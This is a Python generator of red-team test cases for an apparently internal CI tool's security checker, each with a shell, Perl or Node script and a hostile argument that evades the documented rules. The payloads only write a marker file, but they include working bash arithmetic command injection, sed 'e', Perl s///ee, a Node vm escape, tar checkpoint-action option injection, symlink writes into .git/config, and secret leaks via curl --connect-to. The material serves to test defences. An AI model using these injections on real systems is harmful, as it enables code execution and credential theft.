# Round forty-four attacks (helpers: round 43 lines 1-111 with r43 -> r44) (exec'd by gen_attacks.py; uses A, T, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r44-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r44-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there




CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}


# ================================================================== round 41 attacks
R38L = ("Round 38: a language's program given a run-directory file as an operand reads caller data from it, and is "
        "read for its language's ways to run text (perl: eval, system, backticks, 2-argument open, <>, readline(ARGV); "
        "node: eval, Function, require, child_process, computed global names, process, this, Reflect, module). ")
TXT = {"type": "string", "maxLength": 300}
NOTE = {"type": "string", "maxLength": 300, "description": "one line of text"}
CFG = dict(ATT_TXT, description="the team's git settings file")
# a git config whose fsmonitor hook git status runs (a shell command line); marker to stderr, /tmp and the run dir
HOOKCMD = "echo %s | tee -a /tmp/harbor-r44-pwned $HARBOR_RUN_DIR/pwned >&2; false" % PW
FSMON = '[core]\n\tfsmonitor = "%s"\n' % HOOKCMD
HOOKSH = "#!/bin/sh\n" + SHP + " >&2\nexit 1\n"
R39 = ("Round 39: a path of a place a step may write is caller data, refused where the grammar says code or config "
       "(git -c include.path=, GIT_CONFIG_GLOBAL as a KEY=); the places named are the run directory, temporary "
       "folders, home, /dev/shm, /run/shm, /run/lock, /run/user, /var/lock, /var/run/shm, /proc/*/root, mktemp, "
       "paths with .. after a link. ")
R39X = ("Round 39/40: the exception for a file the same step wrote in full just before at its top level with printf "
        "of the author's text, named by no other command of the script, for a program with a grammar and no program "
        "text; off when the script has set +e or set -C, or mentions noclobber or errexit. ")


# ================================================================== round 43 attacks
R41 = ("Round 41: a path of what a descriptor holds open (/dev/stdin, /dev/fd/3, /proc/self/fd/4, and anything under "
       "them) is a place; so is a path whose start a command prints (date +/dev/shm/x, mktemp). ")
R42 = ("Round 42: /dev/stdout and /dev/stderr with 1<; an absolute path with a glob outside /etc,/usr,/opt,/srv; a path "
       "that starts with an expansion bash rewrites (${d,,}, ${d^^}, ${d/x/y}, ${d@L}, ${!d}) is a place. ")
SHMW = ("mkdir -p /dev/shm/r44-app\n"
        "cp -- \"$ARG_settings\" /dev/shm/r44-app/team.gitconfig\n"
        "echo \"team settings saved\"\n")
SAVE = ("save", SHMW, None)
SAVEW = "Step 'save' is W103 only (an attachment copied to an absolute path outside the working folder, as in round 42). "

# ---------------------------------------------------------------- place-spelled-by-unlisted-expansion


# ================================================================== round 44 attacks (written from the docs only)
import tarfile as _tarfile


def tgzl(entries):
    """a .tar.gz (base64) of [(name, kind, text_or_target, mode)]: kind 'f' a file, 'l' a symbolic link"""
    bio = io.BytesIO()
    with _tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, kind, body, mode in entries:
            ti = _tarfile.TarInfo(name)
            ti.mtime, ti.mode = 1700000000, mode
            if kind == "l":
                ti.type, ti.linkname = _tarfile.SYMTYPE, body
                t.addfile(ti)
            else:
                data = body.encode()
                ti.size = len(data)
                t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


FREE = lambda d, n=300: {"type": "string", "maxLength": n, "description": d}
TGZ = lambda d: dict(ATT_TGZ, description=d)
TXTA = lambda d: dict(ATT_TXT, description=d)
STEPOUT = ("docs/exports.md 'Passing results between steps': a step output 'holds exactly what echo \"key=$v\" (or printf "
           "'key=%s\\n' \"$v\") prints of $v' and is the author's text when every statement appending to $HARBOR_STEP_OUTPUT "
           "holds no caller data; security.md s7 rule 5: 'an output written as echo \"key=$v\" holds exactly $v's'. ")

# ---------------------------------------------------------------- 001 values bash rewrites: xpg_echo
_s1 = "\nbuild=1e " + SHP + " #"
_wd = "C:" + "".join(c if (c.isalnum() and c.isascii()) or c in "_." else "\\0%03o" % ord(c) for c in _s1)
X("xpg-echo-output", "value-rewritten-by-echo-escapes",
  "Record a Windows build agent's folder and the CI build number, then show that many changelog lines.",
  {"build": {"type": "integer", "minimum": 0, "maximum": 100000, "description": "CI build number"},
   "workdir": {"type": "string", "pattern": "^[A-Za-z]:(\\\\[A-Za-z0-9_.]+)+$", "maxLength": 2000,
               "description": "the Windows agent's folder, e.g. C:\\\\builds\\\\app"}},
  [("meta", """
    # the agents' notes use \\t; make echo print them the way the Windows agents do
    shopt -s xpg_echo
    echo "agent\\t$ARG_workdir"
    echo "build=$ARG_build" >> "$HARBOR_STEP_OUTPUT"
    echo "agent_dir=$ARG_workdir" >> "$HARBOR_STEP_OUTPUT"
    """, None),
   ("notes", """
    sed -n "1,${STEP_meta_build}p" CHANGELOG.md
    """, None)],
  {"build": 3, "workdir": _wd},
  "build is an integer with minimum 0 (security.md s7 rule 5: 'inert even in code (sed -n \"{{ args.n }}p\")'); " + STEPOUT +
  "The workdir pattern holds no blank, quote, $, newline or '='. Nothing in the docs says `shopt -s xpg_echo` (or echo's "
  "escapes at all) rewrites a value: rule 3 lists ${x@E} and printf %b, not echo. Under xpg_echo, '\\0012' is a newline "
  "and '\\0075' is '=', so the agent_dir line writes a second build= line (a key written twice keeps its last line), "
  "whose value is `1e CMD #`: sed's e command.")

# ---------------------------------------------------------------- 002 deferred expansion: PS4
R("ps4-trace-shard", "deferred-expansion-ps4",
  "Count one shard's lines in the worker log, with a shell trace that names the shard.",
  {"shard": FREE("the shard to inspect: its name or its index", 200)},
  """
  names=(alpha beta gamma delta)
  PS4='+ [${names[ARG_shard]-shard}] ${LINENO}: '
  set -x
  label=$(printf 'shard-%s' "$ARG_shard")
  grep -c -F -e "$label" -- logs/worker.log || true
  """,
  {"shard": ARITHB},
  "PS4 is assigned a literal in single quotes (the author's text, no caller data in it); every caller value in the "
  "script is quoted and reaches printf's %s and grep -e (data). The docs say set -x is a secrets' concern (H010) and "
  "never that PS4's text is expanded again before every traced command; there its subscript `names[ARG_shard]` is "
  "arithmetic on the caller's text (x[$(cmd)] runs cmd), a place rule 6 and H006 would refuse if written in the script.")

# ---------------------------------------------------------------- 003 special variable assignment: RANDOM
R("sample-log-seeded", "special-variable-assignment-arith",
  "A reproducible random sample of three log lines: the same seed gives the same lines.",
  {"seed": {"type": "string", "pattern": "^[A-Za-z0-9_]{1,40}$", "description": "any word; the same seed gives the same sample"},
   "label": FREE("a heading printed above the sample", 200)},
  """
  RANDOM=$ARG_seed
  printf '== %s ==\\n' "$ARG_label"
  mapfile -t lines < logs/app.log
  for _ in 1 2 3; do
    printf '%s\\n' "${lines[RANDOM % ${#lines[@]}]}"
  done
  """,
  {"seed": "ARG_label", "label": ARITHB},
  "seed's pattern is letters, digits and '_' (no $, [, (, blank or '-'); an assignment of such a word to a name is no "
  "option, program or code by rule 6's list (known code-selecting names, LD_*, GIT_*, *_OPTS…; `declare -i` names). "
  "RANDOM is not in it, yet bash evaluates every value assigned to RANDOM (also SRANDOM, OPTIND, HISTCMD) as "
  "arithmetic, recursively: `ARG_label` names the other arg, whose text x[$(cmd)] runs. label only reaches printf %s.")

# ---------------------------------------------------------------- 004 agent custom tool: $[ ] arithmetic
A("agent-page-log", "agent-tool-dollar-bracket-arith", """
name: triage_app_log
description: "Answer a question about the application log, reading it a page at a time."
args:
  question: {"type": "string", "maxLength": 500}
required: [question]
timeout: 30
tools:
  page_log:
    description: "One page (20 lines) of the application log."
    args:
      page: {"type": "string", "maxLength": 200, "description": "the page number, 1 for the first"}
    required: [page]
    run: |
      per=20
      first=$[ (ARG_page - 1) * per + 1 ]
      sed -n "${first},$(( first + per - 1 ))p" logs/app.log
    timeout: 10
steps:
  - name: triage
    agent:
      model: triage
      system: "You answer questions about the application log. Read it with page_log."
      prompt: "Question: {{ args.question | data }}"
      tools: [page_log]
      max_turns: 6
""", {"question": "how many 500s?"},
  "agents.md: custom tools are checked like exports with the model's args as a caller's. H006 lists $(( )), (( )), "
  "let, subscripts, ${x:offset} and [[ -eq ]]; security.md's probes are put 'before every $ that reads a caller "
  "variable'. `$[ … ]` (bash's old arithmetic expansion) is in no list, and ARG_page in it is a bare name with no $ "
  "before it. The model's page `x[$(cmd)]` is evaluated there.",
  __tools__=[{"tool": "page_log", "args": {"page": ARITHB}}])

# ---------------------------------------------------------------- 005 builtin that expands its operand again: compgen -W
R("suggest-env", "builtin-reexpands-operand",
  "Suggest environment names that start with a prefix, from ours and any extra names given.",
  {"prefix": {"type": "string", "pattern": "^[a-z0-9-]{1,20}$", "description": "the start of the name"},
   "extra": FREE("more candidate names, separated by blanks", 200)},
  """
  mapfile -t known < config/environments.txt
  compgen -W "${known[*]} $ARG_extra" -- "$ARG_prefix" | sort -u
  """,
  {"prefix": "s", "extra": "$(" + SHP + " >&2)"},
  "Both values are quoted words of a bash builtin (the docs ship grammars for 'bash's builtins'); -W takes a word list, "
  "data by its look, and the prefix follows --. Nothing in the docs says compgen -W expands its word list again "
  "(parameter, command and arithmetic expansion) as mapfile -C's callback was found to run text (round 37).")

# ---------------------------------------------------------------- 006 program chosen through BASH_CMDS
R("format-snippet", "program-chosen-by-hash-table",
  "Format a snippet with one of the team's formatters.",
  {"formatter": {"type": "string", "pattern": "^[a-z0-9][a-z0-9._+-]{0,30}$", "description": "shfmt, black, prettier…"},
   "snippet": TXTA("the snippet to format")},
  """
  # resolve the formatter once so a missing one fails early and clearly
  BASH_CMDS[fmt]=$(command -v -- "$ARG_formatter") || { echo "no formatter $ARG_formatter" >&2; exit 2; }
  fmt < "$ARG_snippet" > "$HARBOR_RUN_DIR/formatted.txt" || true
  head -n 50 -- "$HARBOR_RUN_DIR/formatted.txt"
  """,
  {"formatter": "bash", "snippet": b64(SHP + "\n")},
  "The command words are literals (`command`, `fmt`, `head`): coreutils fmt reading stdin as data. `command -v -- "
  "WORD` prints a path (caller data) that is assigned to an element of BASH_CMDS, a name that matches none of rule 6's "
  "code-selecting names or families (…_CMD, not …_CMDS). `hash -p` is refused, but BASH_CMDS is the same table: "
  "`fmt` then runs whatever the caller named (bash), with the caller's snippet on stdin.")

# ---------------------------------------------------------------- 007 bash quoting read by another shell
R("append-note-locked", "bash-quoting-read-by-posix-sh",
  "Append a note to the run's notes under a lock.",
  {"message": FREE("the note, one line", 300)},
  """
  printf -v q '%q' "$ARG_message"
  flock "$HARBOR_RUN_DIR/notes.lock" sh -c "printf '%s\\n' $q >> \\"\\$HARBOR_RUN_DIR/notes.txt\\""
  cat -- "$HARBOR_RUN_DIR/notes.txt"
  """,
  {"message": "\t'; " + SHP + " #"},
  "security.md s7 (what it proves, 4): values quoted by bash itself (printf %q, ${x@Q}) are followed into shell code, "
  "where they must land as whole words, and $q does land as one word. But %q writes a value holding a control "
  "character (a tab) as $'…' with \\' inside, which bash reads and a POSIX sh (dash, /bin/sh here) does not: to dash "
  "$'\\t\\' is $ and a quoted string, and what follows the \\' runs.")

# ---------------------------------------------------------------- 008 perl s///ee
R("render-notes-perl", "interpreter-primitive-unlisted",
  "Render release notes from a template whose {{ … }} hold small Perl expressions such as $v{version}.",
  {"template": TXTA("the notes template"), "version": {"type": "string", "pattern": "^[0-9]+\\.[0-9]+\\.[0-9]+$"}},
  """
  perl -e 'local $/; my $t = <STDIN>; my %v = (version => $ARGV[0]);
           $t =~ s/\\{\\{\\s*(.+?)\\s*\\}\\}/$1/gee; print $t' -- "$ARG_version" < "$ARG_template"
  """,
  {"template": b64("Release {{ $v{version} }}\n{{ system(q{" + SHP + "}) }}\n"), "version": "1.4.2"},
  "A literal perl program given caller data on stdin (a run-directory attachment) and as an argument after --; it "
  "uses none of the run primitives security.md s7 rule 8 names for perl (eval, system, backticks, 2-argument open, "
  "<>, readline(ARGV)). The substitution's /ee flags evaluate the replacement's text as Perl: the template's "
  "system(…) runs.")

# ---------------------------------------------------------------- 009 node vm via an ES module import
R("filter-orders-js", "interpreter-primitive-unlisted",
  "List orders matching a JavaScript condition over `row`, e.g. row.status === 'open'.",
  {"filter": FREE("a JavaScript expression over row", 400)},
  """
  node --input-type=module -e '
  import { readFileSync } from "node:fs";
  import { runInNewContext } from "node:vm";
  const [expr, file] = process.argv.slice(1);
  const { orders } = JSON.parse(readFileSync(file, "utf8"));
  for (const row of orders) if (runInNewContext(expr, { row }, { timeout: 500 })) console.log(JSON.stringify(row));
  ' "$ARG_filter" data/orders.json
  """,
  {"filter": "this.constructor.constructor('return process')().getBuiltinModule('child_process').execSync('" + SHP +
             "', {stdio: 'inherit'}) && false"},
  "The caller's text is an argument after the node program (rule 4: 'python3 -c CODE \"$x\"' form); the program uses "
  "none of rule 8's node primitives (no eval, Function, require, child_process, computed global, Reflect, module, "
  "\\u escape): modules come by ES import, not require. vm's runInNewContext is no sandbox: the context object's "
  "constructor leads to the outer Function and to process.")

# ---------------------------------------------------------------- 010 archive link written through by a second archive
_lnk = tgzl([("assets", "l", "/proc/self/cwd/.git", 0o777), ("index.html", "f", "<h1>base</h1>\n", 0o644)])
_ovl = tgzl([("assets/config", "f", FSMON, 0o644), ("index.html", "f", "<h1>overlay</h1>\n", 0o644)])
X("site-preview", "archive-link-written-by-next-archive",
  "Build a site preview from a base bundle and an overlay, and stamp it with the server checkout's state.",
  {"base": TGZ("the site's base bundle (.tar.gz)"), "overlay": TGZ("files that replace the base's (.tar.gz)")},
  [("build", """
    dir="$HARBOR_RUN_DIR/site"
    mkdir -p "$dir"
    tar -xzf "$ARG_base" -C "$dir" --no-same-owner
    tar -xzf "$ARG_overlay" -C "$dir" --no-same-owner
    find "$dir" -type f | wc -l
    """, None),
   ("stamp", """
    rev=$(git rev-parse --short HEAD)
    if [ -n "$(git status --porcelain)" ]; then rev="$rev-dirty"; fi
    echo "source=$rev" >> "$HARBOR_STEP_OUTPUT"
    """, None)],
  {"base": _lnk, "overlay": _ovl},
  "exports.md 'Files made from caller data': keep them in $HARBOR_RUN_DIR, as both tar commands do (-C into the run "
  "directory, a place a grammar writes). The working folder is written by no command (git status reads the "
  "author's repository). But tar keeps the base's link `assets -> /proc/self/cwd/.git` (placed at the end of the "
  "first extraction), and the second tar writes `assets/config` through it: /proc/self/cwd is tar's working folder, "
  "the repository, whose .git/config now holds core.fsmonitor, which git status runs.")

# ---------------------------------------------------------------- 011/012 working folder moved by a program
_pyb = tgzl([("json.py", "f", PYJSON, 0o644), ("manifest.json", "f", "{}\n", 0o644)])
R("check-bundle-json", "working-folder-moved-by-program",
  "Check that an uploaded config bundle's manifest is valid JSON.",
  {"bundle": TGZ("the config bundle (.tar.gz)")},
  """
  dir="$HARBOR_RUN_DIR/bundle"
  mkdir -p "$dir"
  tar -xzf "$ARG_bundle" -C "$dir" --no-same-owner
  # from inside the bundle, so errors name short paths
  env -C "$dir" python3 -m json.tool manifest.json > /dev/null && echo "manifest.json: valid JSON"
  """,
  {"bundle": _pyb},
  "Security.md s7 rule 7: a program that reads code from the folder it works in (python's sys.path[0]) does not work "
  "in a folder a step may write, and the docs name `cd` and `git -C` as what moves it. Here nothing cds: env's "
  "-C/--chdir moves python3, and `python3 -m json.tool manifest.json` (a file operand: data) imports the bundle's "
  "json.py.")

R("check-bundle-execdir", "working-folder-moved-by-program",
  "Check that every JSON file of an uploaded config bundle parses.",
  {"bundle": TGZ("the config bundle (.tar.gz)")},
  """
  dir="$HARBOR_RUN_DIR/bundle"
  mkdir -p "$dir"
  tar -xzf "$ARG_bundle" -C "$dir" --no-same-owner
  find "$dir" -name '*.json' -execdir python3 -m json.tool {} \\; > /dev/null
  echo "all JSON files parse"
  """,
  {"bundle": _pyb},
  "The file names find puts at {} are the caller's (rule 7), and they reach json.tool as a file operand (data). The "
  "docs name find -exec's {} but never that -execdir runs the command in each file's folder: python3 -m then "
  "works in the bundle and imports its json.py.")

# ---------------------------------------------------------------- 013 xargs splits a value into options
R("bundle-logs", "option-injection-by-xargs-split",
  "Bundle some log files into one archive.",
  {"files": FREE("the log files to bundle, separated by blanks, e.g. logs/app.log logs/worker.log", 300)},
  """
  printf '%s\\n' "$ARG_files" | xargs tar -czf "$HARBOR_RUN_DIR/logs.tgz"
  tar -tzf "$HARBOR_RUN_DIR/logs.tgz"
  """,
  {"files": "logs/app.log --checkpoint=1 '--checkpoint-action=exec=" + SHP + "'"},
  "The value cannot start with '-' (validated), and xargs without -0 is W105, a warning. Rule 7 says the items xargs "
  "reads are the caller's arguments at the end of its command; the value itself holds no leading dash. xargs splits "
  "at blanks and honours quotes, so a word inside the value becomes tar's --checkpoint-action=exec=….")

# ---------------------------------------------------------------- 014 step output names that collide
X("release-notes", "step-output-name-collision",
  "Prepare and print the release notes of the latest tag.",
  {"title": FREE("a headline for this release", 200)},
  [("release_notes", """
    echo "title=$(git describe --tags --abbrev=0)" >> "$HARBOR_STEP_OUTPUT"
    """, None),
   ("release", """
    printf 'notes_title=%s\\n' "$ARG_title" >> "$HARBOR_STEP_OUTPUT"
    printf 'headline: %s\\n' "$ARG_title"
    """, None),
   ("publish", """
    tag="$STEP_release_notes_title"
    sed -n "/^## ${tag#v}/,/^## /p" CHANGELOG.md
    """, None)],
  {"title": "x/p;1e " + SHP + " #"},
  STEPOUT + "release_notes's one output is git describe of a folder no step writes (security.md s7 rule 2), so "
  "$STEP_release_notes_title is the author's text and fit for sed's program. But step `release`'s key notes_title "
  "is also STEP_release_notes_title (STEP_<name>_<key> with name `release`), assigned after it: the caller's title "
  "reaches sed as `1e CMD`.")

# ---------------------------------------------------------------- 015 secret: curl --connect-to
R("node-health", "secret-to-caller-host-by-connect-to",
  "Ask one backend node of the status service for its health.",
  {"node": {"type": "string", "pattern": "^[A-Za-z0-9.-]{1,63}$", "description": "the node, e.g. 10.0.3.7 or status-2"}},
  """
  curl -fsS --max-time 5 --connect-to "status.internal.example:8080:$ARG_node:8080" \\
    -H "Authorization: Bearer $API_TOKEN" http://status.internal.example:8080/v1/health
  """,
  {"node": "127.0.0.1"},
  "The URL is the author's literal (scheme, host, port): round 16's rule refuses a secret sent to a URL whose host "
  "or port the caller chooses, and the host here is the author's. The node reaches curl as part of an option's value "
  "(--connect-to), not a URL operand. That option sends the connection, Authorization header and all, to the caller's "
  "host (127.0.0.1:8080 stands for it).",
  head=SEC)

# ---------------------------------------------------------------- 016 secret: a sibling's {file:} secret read by a caller path
T("r44_deploy_hook", """
name: r44_deploy_hook
description: "Tell the deploy service to roll out the current release."
secrets:
  DEPLOY_TOKEN: {file: /run/secrets/r44-deploy-token}
steps:
  - name: hook
    run: |
      curl -fsS -X POST -H "Authorization: Bearer $DEPLOY_TOKEN" http://127.0.0.1:18766/deploy
""")
R("normalise-dates", "secret-file-read-by-caller-path",
  "Normalise a file of dates, one per line, to UTC ISO-8601.",
  {"file": {"type": "string", "pattern": "^[A-Za-z0-9_./-]{1,200}$", "description": "the file of dates"}},
  """
  date -u -f "$ARG_file" +%Y-%m-%dT%H:%M:%SZ
  """,
  {"file": "/run/secrets/r44-deploy-token"},
  "The export has no secrets and is W103 at most (a caller-chosen path, a warning: 'the sandbox limits what a run can "
  "reach'). Round 18's rule for served-together exports only refuses a relative {file:} secret, and names "
  "/run/secrets/NAME as the safe form. date -f prints each line it cannot read as a date in its error, so the "
  "sibling export's secret file comes back verbatim, with no scrubber in this run.",
  served_with=["r44_deploy_hook"])

# ---------------------------------------------------------------- 017 arithmetic in a here-document body
R("job-config", "heredoc-body-arith",
  "Write a job's config file and show it.",
  {"name": {"type": "string", "pattern": "^[a-z][a-z0-9-]{0,30}$"},
   "replicas": FREE("how many replicas, e.g. 3", 100)},
  """
  cat > "$HARBOR_RUN_DIR/job.ini" <<EOF
  [job]
  name = $ARG_name
  replicas = $(( ARG_replicas > 0 ? ARG_replicas : 1 ))
  EOF
  cat -- "$HARBOR_RUN_DIR/job.ini"
  """,
  {"name": "web", "replicas": ARITHB},
  "The here-document goes to a file in $HARBOR_RUN_DIR that nothing runs; name is a pattern of letters. The probes "
  "that confirm bash's reading are put 'before every $ that reads a caller variable'; in the document's body "
  "the caller's value stands as a bare name in $(( )), with no $, and bash evaluates its text x[$(cmd)] there.")

# ---------------------------------------------------------------- 018 secret written through the caller's link
T("r44_docs_page", """
name: r44_docs_page
description: "Show the project's documentation index."
steps:
  - name: show
    run: |
      cat -- docs/index.md
""")
_chart = tgzl([("auth.hdr", "l", "/proc/self/cwd/docs/index.md", 0o777),
               ("mychart/Chart.yaml", "f", "name: mychart\nversion: 0.1.0\n", 0o644)])
R("push-chart", "secret-written-through-caller-link",
  "Push an uploaded Helm chart archive to the team's chart registry.",
  {"chart": TGZ("the chart (.tgz)")},
  """
  tar -xzf "$ARG_chart" -C "$HARBOR_RUN_DIR" --no-same-owner
  printf 'Authorization: Bearer %s\\n' "$REGISTRY_TOKEN" > "$HARBOR_RUN_DIR/auth.hdr"
  curl -fsS -H @"$HARBOR_RUN_DIR/auth.hdr" --data-binary @"$ARG_chart" http://127.0.0.1:18766/api/charts || true
  """,
  {"chart": _chart},
  "security.md s7 rule 6: a secret may not reach a file outside the run directory; $HARBOR_RUN_DIR/auth.hdr is "
  "inside, written in full at the top level by one printf of the author's text and a secret just before the one "
  "command that reads it as a credential (curl -H @FILE), round 39's exception. The chart, extracted there first, "
  "left a link auth.hdr -> /proc/self/cwd/docs/index.md: bash's > follows it and the token lands in the working "
  "folder's docs, which a secret-free export prints.",
  head="secrets:\n  REGISTRY_TOKEN: {env: CI_REGISTRY_TOKEN}\n", then=[{"export": "r44_docs_page", "args": {}}])

# ---------------------------------------------------------------- 019 perl do FILE
R("settings-summary", "interpreter-primitive-unlisted",
  "Summarise an uploaded settings file written as a Perl hash (as our older tools write them).",
  {"settings": TXTA("the settings file")},
  """
  perl -e 'my $s = do $ARGV[0];
           die "bad settings\\n" unless ref $s eq "HASH";
           printf "%-12s %s\\n", $_, $s->{$_} for sort keys %$s' -- "$ARG_settings"
  """,
  {"settings": b64("system(q{" + SHP + "});\n+{ name => 'web', replicas => 3 };\n")},
  "A literal perl program with the caller's file as an argument after --; it uses no primitive of rule 8's perl list "
  "(eval, system, backticks, 2-argument open, <>, readline(ARGV)) and only reads the file. `do FILE` compiles and runs "
  "the file as Perl.")

# ---------------------------------------------------------------- 020 find -printf %P names as options
_opt = tgzl([("p.sh", "f", "#!/bin/sh\n" + SHP + "\n", 0o644),
             ("--checkpoint=1", "f", "", 0o644),
             ("--checkpoint-action=exec=sh p.sh", "f", "", 0o644)])
R("repack-bundle", "option-injection-by-relative-file-names",
  "Repack an uploaded bundle with names relative to its top.",
  {"bundle": TGZ("the bundle (.tar.gz)")},
  """
  dir="$HARBOR_RUN_DIR/in"
  mkdir -p "$dir"
  tar -xzf "$ARG_bundle" -C "$dir" --no-same-owner
  cd "$dir"
  find . -type f -printf '%P\\0' | xargs -0 tar -czf "$HARBOR_RUN_DIR/repacked.tgz"
  tar -tzf "$HARBOR_RUN_DIR/repacked.tgz"
  """,
  {"bundle": _opt},
  "Rounds 14 and 32: the records find prints start with its starting point ('.' here), so xargs -0's items (the "
  "caller's, rule 7) start with '.' and are no options. That holds for -print0, not for -printf '%P\\0', which "
  "prints each path without the starting point: a file named --checkpoint-action=exec=sh p.sh reaches tar as that "
  "option. tar reads no code from its folder, so working in the bundle is fine.")
